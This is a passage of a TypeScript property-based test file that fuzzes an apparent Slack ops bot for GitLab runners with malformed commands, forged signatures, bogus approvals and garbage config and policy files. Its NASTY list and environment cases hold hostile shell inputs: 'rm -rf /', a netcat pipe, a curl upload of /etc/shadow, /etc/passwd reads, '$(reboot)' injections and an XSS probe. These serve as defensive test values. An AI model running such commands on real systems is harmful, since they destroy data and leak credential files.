import { chmod, mkdir, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { Queue, type Job } from 'bullmq';
import fc from 'fast-check';
import Docker from 'dockerode';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { HOST_JOBS } from '../../jobs/index.js';
import * as hostFacts from '../../jobs/host-facts.js';
import * as rotateToken from '../../jobs/rotate-token.js';
import { createApprovalStore } from '../../src/approvals/approval-store.js';
import { readWorkerSettings, type WorkerSettings } from '../../src/config.js';
import { PermanentJobError, TransientJobError, UserError } from '../../src/errors.js';
import { parsePolicy } from '../../src/policy/load-policy.js';
import { readCommand } from '../../src/queue/command-record.js';
import { readHost } from '../../src/queue/host-registry.js';
import { hostQueueName, keys } from '../../src/queue/names.js';
import { generateSigner } from '../../src/queue/signing-keys.js';
import { createRedis } from '../../src/queue/redis.js';
import { APPROVE_ACTION, DENY_ACTION } from '../../src/present/approval-blocks.js';
import { DENY_CALLBACK } from '../../src/present/deny-modal.js';
import { startFakeGitlab, type FakeGitlab } from '../fakes/gitlab/start-fake-gitlab.js';
import type { FakeSlack } from '../fakes/slack/server.js';
import { blockActionsBody, currentTimestamp, signBody, signedPost, slashCommandBody } from '../helpers/slack-requests.js';
import { signedHostJob } from '../helpers/test-trust.js';
import { until } from '../helpers/until.js';
import { readSeedConfig } from '../jobs/support/runner-host.js';
import { errorLines, isOneLine } from './support/checks.js';
import { recordFigure } from './support/figures.js';
import { cliEnv, cliPeople, pinHosts, setUpOperator, type OperatorKeys } from './support/operator.js';
import { runRunnerops, type RunnerProcess } from './support/processes.js';
import { replyText, waitForReply } from './support/replies.js';
import { fileLogger, recordSecrets } from './support/run-dir.js';
import {
  botEnv,
  httpPort,
  newPrefix,
  saveRedisArtifacts,
  saveSlackArtifacts,
  slash,
  startBotProcess,
  startSlackSide,
  startWorkerProcess,
  tempDir,
  workerEnv,
  writePolicy,
} from './support/stack.js';
import { defined } from '../helpers/defined.js';

// Bad input from every side, generated with fast-check: command text, every argument, durations,
// unknown hosts and runners, forged and replayed signatures, interactivity for approvals that do not
// exist or are someone else's, garbage config.toml and policy files. Each gets one line back, and
// nothing is queued, written or leaked.
const prefix = newPrefix('bad');
let admin: Redis;
let slack: FakeSlack;
let gitlab: FakeGitlab;
let signingSecret: string;
let bot: RunnerProcess & { eventsUrl: string };
const workers: RunnerProcess[] = [];
let dir: string;
let removeDir: () => Promise<void>;
let operator: OperatorKeys;
let enrolled: string;
let cases = 0;
let userSeq = 0;
const OPS_GROUP = 'S0BADOPS';
const SECURITY = 'C0BADSECURITY';
const opsUsers = Array.from({ length: 2000 }, (_, i) => `U0BAD${i.toString(36).toUpperCase().padStart(4, '0')}`);

/** A fresh user of the operators group (may run every mutating verb), so each case's answer is its own. */
function opsUser(): string {
  return defined(opsUsers[userSeq++], 'an ops user not used yet');
}

async function treeOf(root: string): Promise<string[]> {
  const out: string[] = [];
  const walk = async (d: string): Promise<void> => {
    for (const entry of await readdir(d, { withFileTypes: true })) {
      const full = path.join(d, entry.name);
      if (entry.isDirectory()) await walk(full);
      else {
        const s = await stat(full);
        out.push(`${path.relative(root, full)} ${s.size} ${s.mtimeMs}`);
      }
    }
  };
  await walk(root);
  return out.sort();
}

/** What a queued, requested or written command leaves in Redis (refusals are only audited). */
async function footprint(): Promise<{ commands: number; approvals: number; jobs: number }> {
  let approvals = 0;
  let jobs = 0;
  let cursor = '0';
  do {
    const [next, found] = await admin.scan(cursor, 'MATCH', `${prefix}:*`, 'COUNT', 1000);
    cursor = next;
    approvals += found.filter((k) => k.startsWith(`${prefix}:approval:`)).length;
    jobs += found.filter((k) => /^[^:]+:(host\.[^:]+|control):[^:]*@[^:]*$/.test(k)).length;
  } while (cursor !== '0');
  return { commands: await admin.llen(keys.commands(prefix)), approvals, jobs };
}

/**
 * Sends `text` as a fresh user and waits for the outcome: the private answer, or (for a command that
 * was accepted) its command record in Redis.
 */
async function ask(text: string, user = opsUser()): Promise<{ user: string; status: number; ackMs: number; reply: string; queued: boolean }> {
  const r = await slash(bot.eventsUrl, signingSecret, text, user);
  cases++;
  let reply = '';
  let queued = false;
  if (r.status === 200) {
    await until(
      async () => {
        const call = slack.calls('chat.postEphemeral').find((c) => c.params.user === user);
        if (call) {
          reply = replyText(call.params.blocks);
          return true;
        }
        const latest = await admin.lindex(keys.commands(prefix), 0);
        queued = latest !== null && (await readCommand(admin, prefix, latest))?.requester.user === user;
        return queued;
      },
      15_000,
      `an answer to "${text.slice(0, 80)}"`,
    );
  }
  return { user, status: r.status, ackMs: r.ms, reply, queued };
}

/**
 * Deny opens its dialog first and a refusal replaces the dialog's content: the text of the next
 * views.update after `seen` (one click at a time), without its emoji.
 */
async function denyDialogAnswer(seen: number): Promise<string> {
  const call = await slack.waitFor('views.update', (c) => slack.calls('views.update').indexOf(c) >= seen, 15_000);
  const view = (typeof call.params.view === 'string' ? JSON.parse(call.params.view) : call.params.view) as { blocks?: unknown };
  return replyText(view.blocks).replace(/^:no_entry: /, '');
}

function noSecretIn(text: string): boolean {
  return ![signingSecret, slack.botToken, slack.appToken, ...gitlab.issuedTokens()].some((s) => text.includes(s));
}

/** The command text for one argument value: quoted when it holds spaces, the way a person would. */
function quote(value: string): string {
  if (value === '' || /\s/.test(value)) return value.includes('"') ? `'${value}'` : `"${value}"`;
  return value;
}

const META = [';', '|', '&', '$', '`', '<', '>', '(', ')', '{', '}', '[', ']', '!', '*', '?', '~', '\\', '#', '%', '^', '/', '\n', '\t', '\u0000', "'", '"'];
const NASTY = [
  '$(reboot)',
  '`id`',
  '; rm -rf /',
  '| nc 10.0.0.1 4444',
  '&& curl -d @/etc/shadow x',
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  '/etc/shadow',
  '%2e%2e%2f%2e%2e%2f',
  '${IFS}cat${IFS}/etc/passwd',
  'ci-1;reboot',
  'ci-1 && reboot',
  '$HOME',
  '~root/.ssh',
  '<script>alert(1)</script>',
  '\u0000',
  'a\nb',
  '*',
];
/** A value with at least one shell metacharacter or a path traversal in it. */
const nasty = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.tuple(fc.string({ maxLength: 12 }), fc.constantFrom(...META), fc.string({ maxLength: 12 })).map(([a, m, b]) => `${a}${m}${b}`),
  fc.array(fc.constantFrom('..', '.', 'etc', 'passwd', '%2e%2e', 'nix', 'store'), { minLength: 2, maxLength: 6 }).map((parts) => `${parts.join('/')}/`),
);

/** Every argument of every verb, with `X` where the bad value goes. */
const SLOTS = [
  'ping X',
  'store X',
  'prune X --dry-run',
  'restart-daemon X',
  'register X --type instance',
  'rotate X',
  'store bad-1 --top X',
  'prune bad-1 --until X',
  'prune bad-1 --images X',
  'prune bad-1 --images lru --target-free X',
  'gc X --dry-run',
  'gc bad-1 --max-freed X',
  'restart-daemon bad-1 --timeout X',
  'register bad-1 --type X',
  'register bad-1 --type group --group X',
  'register bad-1 --type project --project X',
  'register bad-1 --type instance --tags X',
  'rotate bad-1 --runner X',
  'runners X',
  'pause X',
  'resume X',
  'unregister X --runner nix',
  'unregister bad-1 --runner X',
  'cleanup-stale --older-than X',
  'job X',
  'jobs X',
  'audit X',
  'help X',
];

beforeAll(async () => {
  const redisUrl = inject('redisUrl');
  admin = createRedis({ redisUrl });
  ({ slack, signingSecret } = await startSlackSide());
  slack.setUsergroup(OPS_GROUP, opsUsers);
  gitlab = await startFakeGitlab();
  ({ dir, remove: removeDir } = await tempDir('bad'));
  operator = await setUpOperator(dir);
  const policyFile = await writePolicy(dir, {
    roles: { ops: { groups: [OPS_GROUP] }, approvers: { users: ['U0BADAPPROVER'] } },
    people: cliPeople(operator),
    verbs: {
      prune: { run: ['ops'] },
      'restart-daemon': { run: ['ops'] },
      register: { run: ['ops'] },
      rotate: { request: ['ops'], approve: ['approvers'] },
    },
    channels: { approvals: 'C0BADAPPROVALS', security: SECURITY },
  });
  const hostEnvs = ['bad-1', 'bad-2'].map((host) =>
    workerEnv({ redisUrl, prefix, host, botKeys: operator.botKeys, dir: path.join(dir, host), gitlabUrl: gitlab.url }),
  );
  enrolled = await pinHosts(hostEnvs);
  bot = await startBotProcess('bad-input-bot', botEnv({ redisUrl, prefix, slack, signingSecret, port: await httpPort(), operator, enrolled, policyFile }));
  // bad-1 has one runner in its config.toml (host-facts publishes it); bad-2 has none.
  const runner = gitlab.addRunner({ description: 'nix' });
  recordSecrets(...gitlab.issuedTokens());
  await mkdir(path.join(dir, 'bad-1', 'gitlab-runner'), { recursive: true });
  await writeFile(
    path.join(dir, 'bad-1', 'gitlab-runner', 'config.toml'),
    (await readSeedConfig()).replace('@TOKEN_NIX@', runner.token).replace('id = 12354', `id = ${runner.id}`).replace('Nix caching runner', 'nix'),
    { mode: 0o600 },
  );
  for (const env of hostEnvs) workers.push(await startWorkerProcess(`bad-input-worker-${env.RUNNEROPS_HOST}`, env, admin));
  await until(async () => ((await readHost(admin, prefix, 'bad-1'))?.runners ?? []).some((r) => r.name === 'nix'), 20_000, 'bad-1 runners in the registry');
});

afterAll(async () => {
  recordFigure({ scenario: 'bad-input', name: 'generated bad inputs checked', value: String(cases), next: 'at least 200' });
  for (const p of [bot, ...workers]) await p?.stop();
  if (slack) await saveSlackArtifacts('bad-input', slack);
  if (admin) {
    await saveRedisArtifacts('bad-input', admin, prefix).catch(() => undefined);
    admin.disconnect();
  }
  await slack?.close();
  await gitlab?.close();
  await removeDir?.();
});

describe('bad command text', () => {
  it('answers malformed and oversized text with one line and queues nothing', async () => {
    const before = await footprint();
    const text = fc
      .oneof(
        fc.string({ unit: 'binary', maxLength: 200 }),
        fc.string({ minLength: 2001, maxLength: 6000 }),
        fc.tuple(fc.constantFrom('"', "'", '--', '---', '-x', '—', '\u202e'), fc.string({ maxLength: 60 })).map(([a, b]) => `${a}${b}`),
        fc
          .tuple(
            fc.constantFrom('ping', 'prune', 'rotate', 'register', 'jobs'),
            fc.constantFrom('"unclosed', "'unclosed", '--nope', '--until', '--dry-run=yes', 'a b c d', '--type'),
          )
          .map(([v, a]) => `${v} ${a}`),
      )
      .filter((t) => t.trim() !== '' && !/^\s*(help|hosts|schedules|jobs|audit)\s*$/i.test(t));
    await fc.assert(
      fc.asyncProperty(text, async (t) => {
        const { status, reply, ackMs, queued } = await ask(t);
        expect(status).toBe(200);
        expect(queued, t).toBe(false);
        expect(ackMs).toBeLessThan(3000);
        expect(isOneLine(reply), JSON.stringify(reply)).toBe(true);
        expect(noSecretIn(reply)).toBe(true);
      }),
      { numRuns: 60 },
    );
    expect(await footprint()).toEqual(before);
  });

  it('refuses shell metacharacters and path traversal in every argument of every verb', async () => {
    const before = await footprint();
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...SLOTS), nasty, async (slot, value) => {
        const { reply, queued } = await ask(slot.replace('X', quote(value)));
        expect(queued, slot.replace('X', quote(value))).toBe(false);
        expect(isOneLine(reply), JSON.stringify(reply)).toBe(true);
        expect(noSecretIn(reply)).toBe(true);
      }),
      { numRuns: 90 },
    );
    // A description is free text: metacharacters are fine there, and never reach a shell. From a user
    // the policy does not allow, it must still end in one line and nothing queued.
    await fc.assert(
      fc.asyncProperty(nasty, async (value) => {
        const { reply } = await ask(`register bad-1 --type instance --description ${quote(value)}`, `U0OUT${userSeq++}`);
        expect(isOneLine(reply), JSON.stringify(reply)).toBe(true);
      }),
      { numRuns: 15 },
    );
    expect(await footprint()).toEqual(before);
  });

  it('names the known hosts for an unknown one, for every verb that takes a host', async () => {
    const before = await footprint();
    const name = fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/).filter((n) => n !== 'all' && n !== 'bad-1' && n !== 'bad-2');
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('ping X', 'store X', 'prune X --dry-run', 'restart-daemon X', 'register X --type instance', 'rotate X'),
        name,
        async (slot, host) => {
          const { reply } = await ask(slot.replace('X', host));
          expect(reply).toBe(`unknown host "${host}"; known: bad-1, bad-2`);
        },
      ),
      { numRuns: 25 },
    );
    expect(await footprint()).toEqual(before);
  });

  it('refuses a rotation of a runner the host does not have, before anyone is asked to approve it', async () => {
    const before = await footprint();
    const runner = fc.stringMatching(/^[a-z][a-z0-9-]{2,20}$/).filter((r) => r !== 'nix');
    await fc.assert(
      fc.asyncProperty(runner, async (name) => {
        const { reply } = await ask(`rotate bad-1 --runner ${name}`);
        expect(isOneLine(reply)).toBe(true);
        expect(reply).toMatch(new RegExp(`runner "${name}".*bad-1.*nix`));
      }),
      // Each failing case opens an approval request: stop at the first one.
      { numRuns: 8, endOnFailure: true },
    );
    expect(await footprint()).toEqual(before);
  });

  it('refuses bad durations with one line and queues nothing', async () => {
    const before = await footprint();
    const duration = fc.oneof(
      fc.tuple(fc.integer({ min: 0, max: 999_999 }), fc.constantFrom('s', 'm', 'h', 'd', 'w')).map(([n, u]) => `${n}${u}`),
      fc.tuple(fc.integer({ min: 0, max: 9_999_999 }), fc.constantFrom('', 'y', 'ms', 'H', ' h', '.5h')).map(([n, u]) => `${n}${u}`),
      fc.constantFrom('-1h', '0s', '0d', '1.5h', '1e3s', '24 h', 'PT1H', 'forever', '999999w', '367d', 'NaN', 'Infinity', ''),
    );
    const isGood = (d: string, max: number) => {
      const m = /^(\d{1,6})(s|m|h|d|w)$/.exec(d);
      if (!m) return false;
      const seconds = Number(m[1]) * { s: 1, m: 60, h: 3600, d: 86400, w: 604800 }[m[2] as 's'];
      return seconds > 0 && seconds <= max;
    };
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('prune bad-1 --dry-run --until X', 'restart-daemon bad-1 --timeout X'), duration, async (slot, d) => {
        const max = slot.startsWith('prune') ? 366 * 86400 : 86400;
        fc.pre(!isGood(d, max));
        const { reply, queued } = await ask(slot.replace('X', quote(d)));
        expect(queued, `"${slot.replace('X', d)}" was queued`).toBe(false);
        expect(isOneLine(reply), JSON.stringify(reply)).toBe(true);
      }),
      // Each failing case queues a job: stop at the first one instead of shrinking.
      { numRuns: 40, endOnFailure: true },
    );
    expect(await footprint()).toEqual(before);
  });
});

describe('forged and replayed Slack requests', () => {
  it('refuses every forged signature or timestamp with 401 and runs nothing', async () => {
    const before = await footprint();
    const calls = slack.calls().length;
    const forgery = fc.oneof(
      fc.stringMatching(/^[0-9a-f]{64}$/).map((hex) => ({ signature: `v0=${hex}` as string | false, timestamp: currentTimestamp() as number | false })),
      fc.string({ minLength: 1, maxLength: 40 }).map((secret) => ({ wrongSecret: secret })),
      fc.integer({ min: 301, max: 100_000_000 }).map((ago) => ({ timestamp: currentTimestamp() - ago, signWithTimestamp: true })),
      fc.integer({ min: 301, max: 100_000_000 }).map((ahead) => ({ timestamp: currentTimestamp() + ahead, signWithTimestamp: true })),
      fc.constantFrom<Record<string, unknown>>(
        { signature: false },
        { timestamp: false },
        { otherBody: true },
        { versionV1: true },
        { signature: 'v0=' },
        { signature: 'garbage' },
      ),
    );
    await fc.assert(
      fc.asyncProperty(forgery, async (f) => {
        const user = opsUser();
        const body = slashCommandBody({ text: 'ping bad-1', user_id: user, channel_id: 'C0REL' });
        const now = currentTimestamp();
        let options: Parameters<typeof signedPost>[2];
        if ('wrongSecret' in f) options = { secret: String(f.wrongSecret) === signingSecret ? `${signingSecret}x` : String(f.wrongSecret) };
        else if ('signWithTimestamp' in f) options = { secret: signingSecret, timestamp: f.timestamp as number };
        else if ('otherBody' in f) options = { secret: signingSecret, signature: signBody(signingSecret, now, slashCommandBody({ text: 'hosts' })) };
        else if ('versionV1' in f) options = { secret: signingSecret, signature: signBody(signingSecret, now, body).replace(/^v0=/, 'v1=') };
        else options = { secret: signingSecret, ...(f as object) };
        const response = await signedPost(bot.eventsUrl, body, options);
        await response.arrayBuffer();
        cases++;
        expect(response.status).toBe(401);
      }),
      { numRuns: 40 },
    );
    await new Promise((r) => setTimeout(r, 500));
    expect(await footprint()).toEqual(before);
    expect(
      slack
        .calls()
        .slice(calls)
        .filter((c) => c.method !== 'usergroups.users.list'),
    ).toEqual([]);
  });

  it('runs a replayed request (same body, timestamp and signature) only once', async () => {
    const before = await footprint();
    const statuses: number[] = [];
    for (let i = 0; i < 3; i++) {
      const body = slashCommandBody({ text: 'ping bad-1', user_id: opsUser(), channel_id: 'C0REL' });
      const timestamp = currentTimestamp();
      const options = { secret: signingSecret, timestamp, signature: signBody(signingSecret, timestamp, body) };
      for (let copy = 0; copy < 3; copy++) {
        const response = await signedPost(bot.eventsUrl, body, options);
        await response.arrayBuffer();
        statuses.push(response.status);
        cases++;
      }
    }
    await new Promise((r) => setTimeout(r, 1000));
    const after = await footprint();
    expect(after.commands - before.commands, `replays answered ${statuses.join(',')}`).toBe(3);
  });
});

describe("interactivity for approvals that do not exist or are someone else's", () => {
  it('answers clicks on unknown approvals with one line and changes nothing', async () => {
    const before = await footprint();
    const value = fc.oneof(
      fc.stringMatching(/^[0-9a-f]{12}$/),
      fc.string({ maxLength: 80 }),
      fc.constantFrom('', '../../etc/passwd', '{"id":1}', 'ap-000000000000'),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(APPROVE_ACTION, DENY_ACTION), value, async (action, v) => {
        const user = opsUser();
        const seenViews = slack.calls('views.update').length;
        const response = await signedPost(bot.eventsUrl, blockActionsBody({ action_id: action, user_id: user, value: v, channel_id: 'C0BADAPPROVALS' }), {
          secret: signingSecret,
        });
        expect(response.status).toBe(200);
        const reply = action === DENY_ACTION ? await denyDialogAnswer(seenViews) : await waitForReply(slack, user);
        cases++;
        expect(isOneLine(reply), JSON.stringify(reply)).toBe(true);
        expect(reply).toMatch(/no such approval request|no approval request/);
      }),
      { numRuns: 30 },
    );
    expect(await footprint()).toEqual(before);
  });

  it('refuses approvals by the requester or by someone without the role, and leaves the request pending', async () => {
    const requester = opsUser();
    await slash(bot.eventsUrl, signingSecret, 'rotate bad-1', requester);
    const posted = await slack.waitFor(
      'chat.postMessage',
      (c) => c.params.channel === 'C0BADAPPROVALS' && JSON.stringify(c.params.blocks).includes(`<@${requester}>`),
    );
    const id = defined(/"value":"([0-9a-f]{12})"/.exec(JSON.stringify(posted.params.blocks))?.[1], 'an approval id in the message');
    const before = await footprint();
    const clicker = fc.oneof(fc.constant(requester), fc.constant('__ops__'), fc.stringMatching(/^U0X[A-Z0-9]{6}$/));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(APPROVE_ACTION, DENY_ACTION), clicker, async (action, who) => {
        if (action === DENY_ACTION) fc.pre(who !== requester); // a requester may withdraw their own request
        const user = who === '__ops__' ? opsUser() : who === requester ? requester : `${who}${userSeq++}`;
        const seen = slack.calls('chat.postEphemeral').length;
        const seenViews = slack.calls('views.update').length;
        const response = await signedPost(
          bot.eventsUrl,
          blockActionsBody({ action_id: action, user_id: user, value: id, block_id: `approval-${id}`, channel_id: 'C0BADAPPROVALS' }),
          { secret: signingSecret },
        );
        expect(response.status).toBe(200);
        const reply =
          action === DENY_ACTION
            ? await denyDialogAnswer(seenViews)
            : String(
                (await slack.waitFor('chat.postEphemeral', (c) => c.params.user === user && slack.calls('chat.postEphemeral').indexOf(c) >= seen)).params.text,
              );
        cases++;
        expect(isOneLine(reply), reply).toBe(true);
        expect((await createApprovalStore(admin, prefix).get(id))?.state).toBe('pending');
      }),
      { numRuns: 12 },
    );
    expect(await footprint()).toEqual(before);
  });

  it('ignores deny-modal submissions for approvals that do not exist, without a crash', async () => {
    const before = await footprint();
    const logBefore = (await bot.output()).length;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ maxLength: 100 }),
          fc.jsonValue().map((v) => JSON.stringify(v)),
          fc.stringMatching(/^[0-9a-f]{12}$/).map((id) => JSON.stringify({ approvalId: id, channel: 'C0BADAPPROVALS' })),
        ),
        async (meta) => {
          const payload = {
            type: 'view_submission',
            team: { id: 'T0RUNNEROPS', domain: 'runnerops-test' },
            user: { id: opsUser(), username: 'x', name: 'x', team_id: 'T0RUNNEROPS' },
            api_app_id: 'A0RUNNEROPS',
            token: 'unused',
            trigger_id: '1.2.3',
            view: {
              id: 'V0X',
              type: 'modal',
              callback_id: DENY_CALLBACK,
              private_metadata: meta,
              state: { values: { reason: { reason: { type: 'plain_text_input', value: 'x' } } } },
            },
            response_urls: [],
          };
          const response = await signedPost(bot.eventsUrl, new URLSearchParams({ payload: JSON.stringify(payload) }).toString(), { secret: signingSecret });
          cases++;
          expect(response.status).toBe(200);
        },
      ),
      { numRuns: 15 },
    );
    await new Promise((r) => setTimeout(r, 500));
    expect(await footprint()).toEqual(before);
    expect(bot.alive()).toBe(true);
    expect(errorLines((await bot.output()).slice(logBefore))).toEqual([]);
  });
});

describe('garbage files', () => {
  let host: { dir: string; settings: WorkerSettings };
  const configText = async () => readFile(host.settings.runnerConfigPath, 'utf8');

  beforeAll(async () => {
    const hostDir = path.join(dir, 'garbage-host');
    await mkdir(path.join(hostDir, 'gitlab-runner'), { recursive: true });
    host = {
      dir: hostDir,
      settings: readWorkerSettings({
        REDIS_URL: inject('redisUrl'),
        RUNNEROPS_PREFIX: prefix,
        RUNNEROPS_HOST: 'garbage-host',
        RUNNEROPS_BOT_KEYS: operator.botKeys,
        RUNNEROPS_STATE_DIR: path.join(hostDir, 'state'),
        GITLAB_URL: gitlab.url,
        GITLAB_RUNNER_CONFIG: path.join(hostDir, 'gitlab-runner', 'config.toml'),
        RUNNEROPS_RELOAD_COMMAND: 'true',
      }),
    };
    await mkdir(host.settings.stateDir, { recursive: true, mode: 0o700 });
    await writeFile(path.join(hostDir, 'gitlab-runner', '.runner_system_id'), 's_0123456789ab\n');
  });

  it('fails a rotation on a garbage config.toml with one line, and never leaves the new token only in a recovery file', async () => {
    const seed = await readSeedConfig();
    // TOKEN is replaced by a live runner token in each case: garbage can still hold a real token.
    const garbage = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 400 }),
      fc.integer({ min: 1, max: seed.length - 1 }).map((cut) => seed.replace('@TOKEN_NIX@', 'TOKEN').slice(0, cut)),
      fc.constantFrom(
        '[[runners]]\nname = 1\ntoken = true\n',
        'runners = "x"\n',
        '[[runners]]\nname = "nix"\n',
        '[[runners]]\nname = "nix"\ntoken = "TOKEN"\n[[runners]]\nname = "nix"\ntoken = "TOKEN"\n',
        '[runners]\nname = "a"\n',
        'concurrent = "x"\n[[runners]]\nname = "nix"\ntoken = "TOKEN"\nurl = 5\nid = "x"\n',
        // An entry runnerops cannot find again after the reset (no name, no id).
        'id = -1\ntoken = "TOKEN"\n[[runners]]\ntoken = "TOKEN"',
        '\u0000\u0001\u0002',
      ),
      fc
        .array(
          fc.constantFrom('[[runners]]', 'name = "nix"', 'token = "TOKEN"', 'token = ', '[runners.docker]', 'id = -1', '"""', '= =', 'url = "ht tp://x"'),
          { maxLength: 8 },
        )
        .map((lines) => lines.join('\n')),
    );
    const { log, close } = fileLogger('bad-input-garbage-config');
    // What the jobs would write into the host's signed registry entry: it must never hold a token.
    const patches: string[] = [];
    const patchHost = async (patch: unknown) => void patches.push(JSON.stringify(patch));
    try {
      await fc.assert(
        fc.asyncProperty(garbage, async (template) => {
          const runner = gitlab.addRunner({ description: 'garbage' });
          const original = runner.token;
          recordSecrets(original);
          const text = template.replaceAll('TOKEN', original);
          await writeFile(host.settings.runnerConfigPath, text, { mode: 0o600 });
          await chmod(host.settings.runnerConfigPath, 0o600);
          const before = await treeOf(host.dir);
          patches.length = 0;
          const ctx = {
            host: 'garbage-host',
            settings: host.settings,
            log,
            progress: async () => undefined,
            redis: admin,
            prefix,
            patchHost,
            sleep: async () => undefined,
          };
          const outcome = await rotateToken.run({ jobId: `bad-${cases}` }, ctx, new AbortController().signal).then(
            (result) => ({ result, error: undefined as unknown }),
            (error: unknown) => ({ result: undefined, error }),
          );
          cases++;
          const current = gitlab.runner(runner.id)!.token;
          recordSecrets(current);
          if (outcome.error !== undefined) {
            const error = outcome.error;
            expect(error instanceof PermanentJobError || error instanceof UserError || error instanceof TransientJobError, String(error)).toBe(true);
            const message = (error as Error).message;
            expect(isOneLine(message), message).toBe(true);
            expect(message).not.toContain(original);
            expect(message).not.toContain(current);
            if (current === original) expect(await treeOf(host.dir)).toEqual(before);
            // GitLab reset the token but the config could not take it: the message must say where it is.
            else expect(message, `token reset, then: ${message}`).toMatch(/rotation-[^ ]*\.json/);
          } else {
            expect(await configText()).toContain(current);
          }
          const facts = await hostFacts.run({}, { host: 'garbage-host', docker: new Docker(), settings: host.settings, patchHost });
          for (const note of facts.notes) {
            expect(isOneLine(note), note).toBe(true);
            expect(note).not.toContain(current);
          }
          expect(patches.length).toBeGreaterThan(0);
          for (const patch of patches) {
            expect(patch).not.toContain(original);
            expect(patch).not.toContain(current);
          }
          await rm(path.join(host.settings.stateDir, 'rotation-runner.json'), { force: true });
        }),
        { numRuns: 40 },
      );
    } finally {
      await close();
    }
  });

  it('refuses a garbage policy file with one line naming the file and the problem', async () => {
    const validish = fc.record({
      roles: fc.dictionary(fc.stringMatching(/^[a-z]{1,8}$/), fc.record({ users: fc.array(fc.stringMatching(/^U[A-Z0-9]{4,8}$/), { maxLength: 3 }) })),
      verbs: fc.dictionary(fc.constantFrom('prune', 'rotate', 'ping'), fc.record({ run: fc.array(fc.string({ maxLength: 6 }), { maxLength: 2 }) })),
    });
    const valid = fc.record({
      roles: fc.constant({ ops: { users: ['U0OPS'] } }),
      verbs: fc.dictionary(fc.constantFrom('prune', 'rotate', 'ping'), fc.record({ run: fc.constant(['ops']) })),
      approvals: fc.record({ expiry: fc.constantFrom('30m', '2h') }),
    });
    const unknownKey = fc.tuple(valid, fc.stringMatching(/^[a-z_]{3,12}$/), fc.constantFrom('top', 'approvals', 'prune', 'watch')).map(([p, key, where]) => {
      const policy = JSON.parse(JSON.stringify(p)) as Record<string, unknown>;
      if (where === 'top') policy[`x_${key}`] = 1;
      else policy[where] = { ...((policy[where] as Record<string, unknown> | undefined) ?? {}), [`x_${key}`]: true };
      return { text: JSON.stringify(policy), key: `x_${key}` };
    });
    const garbage = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 300 }).map((text) => ({ text, key: undefined as string | undefined })),
      fc.jsonValue().map((v) => ({ text: JSON.stringify(v), key: undefined as string | undefined })),
      validish.map((v) => ({ text: JSON.stringify(v), key: undefined as string | undefined })),
      unknownKey,
      fc
        .constantFrom(
          'roles: 5',
          'verbs: {prune: {run: ops}}',
          'approvals: {expiry: 5 minutes}',
          ': : :',
          '- - -',
          'schedules: [{name: X, cron: "* *", command: "", channel: ""}]',
          '\t\tbad',
        )
        .map((text) => ({ text, key: undefined as string | undefined })),
    );
    await fc.assert(
      fc.property(garbage, ({ text, key }) => {
        cases++;
        let error: unknown;
        try {
          parsePolicy(text, '/etc/runnerops/policy.yml');
        } catch (err) {
          error = err;
        }
        if (error === undefined) return;
        expect(error).toBeInstanceOf(UserError);
        const message = (error as Error).message;
        expect(isOneLine(message), message).toBe(true);
        expect(message.startsWith('/etc/runnerops/policy.yml: ')).toBe(true);
        if (key !== undefined) expect(message).toContain(`unknown key "${key}"`);
      }),
      { numRuns: 80 },
    );
  });

  it('stops the binary on a garbage policy, environment or terminal request with one line and exit code 1', async () => {
    const policyFile = path.join(dir, 'garbage-policy.yml');
    await writeFile(policyFile, 'roles:\n  ops: {users: [U1], bogus: 1}\n');
    const stranger = path.join(dir, 'stranger-cli-key');
    expect((await runRunnerops(['keygen', '--cli', stranger], {})).code).toBe(0);
    const base = { LOG_LEVEL: 'silent', REDIS_URL: inject('redisUrl'), RUNNEROPS_PREFIX: prefix };
    // Each run is valid but for the one bad value it names.
    const bot = {
      ...base,
      RUNNEROPS_SIGNING_KEY: operator.botKeyFile,
      RUNNEROPS_ENROLLED_HOSTS: enrolled,
      RUNNEROPS_API_SOCKET: path.join(dir, 'garbage-bot.sock'),
      SLACK_BOT_TOKEN: slack.botToken,
      SLACK_SIGNING_SECRET: signingSecret,
    };
    const worker = { ...base, RUNNEROPS_HOST: 'g-1', RUNNEROPS_BOT_KEYS: operator.botKeys, RUNNEROPS_STATE_DIR: path.join(dir, 'g-1', 'state') };
    const terminal = cliEnv(operator);
    const runs: Array<[string[], Record<string, string>, RegExp]> = [
      [['bot'], { ...bot, RUNNEROPS_POLICY: policyFile, PORT: String(await httpPort()) }, /garbage-policy\.yml/],
      [['bot'], { ...bot, SLACK_BOT_TOKEN: 'not-a-token' }, /SLACK_BOT_TOKEN/],
      [['bot'], { ...bot, RUNNEROPS_SIGNING_KEY: '' }, /RUNNEROPS_SIGNING_KEY/],
      [['bot'], { ...bot, RUNNEROPS_SIGNING_KEY: path.join(dir, 'no-such-key') }, /RUNNEROPS_SIGNING_KEY|no-such-key/],
      [['bot'], { ...bot, RUNNEROPS_ENROLLED_HOSTS: 'bad-1=SHA256:$(reboot)' }, /RUNNEROPS_ENROLLED_HOSTS/],
      [['worker'], { ...worker, REDIS_URL: 'redis+sentinel://127.0.0.1:1' }, /REDIS_URL/],
      [['worker'], { ...worker, RUNNEROPS_HOST: '../../etc' }, /RUNNEROPS_HOST/],
      [['worker'], { ...worker, RUNNEROPS_TOKEN_MODE: '$(reboot)' }, /RUNNEROPS_TOKEN_MODE/],
      [['worker'], { ...worker, RUNNEROPS_HEARTBEAT_SECONDS: '-1' }, /RUNNEROPS_HEARTBEAT_SECONDS/],
      [['worker'], { ...worker, RUNNEROPS_BOT_KEYS: '' }, /RUNNEROPS_BOT_KEYS/],
      [['worker'], { ...worker, RUNNEROPS_BOT_KEYS: 'ed25519:$(reboot)' }, /RUNNEROPS_BOT_KEYS/],
      // Terminal commands go to the bot, signed with the person's key: bad words, a key the policy
      // does not list, and no bot listening.
      [['ping', 'bad-1;reboot'], terminal, /bad-1;reboot|host/],
